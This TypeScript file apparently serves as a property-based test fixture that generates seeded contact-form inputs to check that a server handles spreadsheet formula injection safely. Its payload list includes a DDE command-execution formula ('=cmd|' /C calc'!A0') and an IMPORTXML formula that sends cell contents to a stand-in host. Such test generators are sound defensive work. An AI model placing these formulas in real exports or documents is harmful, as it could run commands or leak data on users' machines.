import fc from 'fast-check'

export interface HostileEnquiry {
  name: string
  message: string
}

/** Texts that a spreadsheet could misinterpret, from a fixed seed. */
export function hostileEnquiries(count: number): HostileEnquiry[] {
  const pieces = fc.array(
    fc.oneof(payload, filling, fc.string({ unit: 'grapheme', maxLength: 9 })),
    {
      minLength: 1,
      maxLength: 5,
    },
  )
  const name = pieces.map((parts) => tidy(parts.join('').replaceAll('\n', ' '), 120))
  const message = fc
    .tuple(pieces, fc.constantFrom('', '\n', ';', ','), pieces)
    .map(([first, between, second]) => tidy([...first, between, ...second].join(''), 5000))
  return fc.sample(fc.record({ name, message }), { numRuns: count, seed: SEED })
}

const SEED = 144

const payload = fc.constantFrom(
  ...['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=HYPERLINK("http://x.example","a")', '=2+5+cmd|1'],
  ...["=cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")', '=A1', '{=1}'],
  ...['＝1+1', '＋1', '－1', '＠SUM(1)', '%0A=1', '+91 98765 43210', '<a href="x">&amp;</a>'],
  ...[']]>', '_x003D_1+1', '\u202E=1', '0123', '1E5', '2026-01-02', '1/2', 'TRUE', 'ক 🗺️'],
)
const filling = fc.constantFrom('"', '""', "'", ',', ';', '\n', ' ', '\u00A0', '\u200B', 'a', '#')

/** As the server stores it, so that input and output can be compared. */
function tidy(text: string, length: number): string {
  const plain = text.normalize('NFC').replace(/[^\P{Cc}\n]/gu, '')
  return [...plain].slice(0, length).join('').trim() || '=0'
}
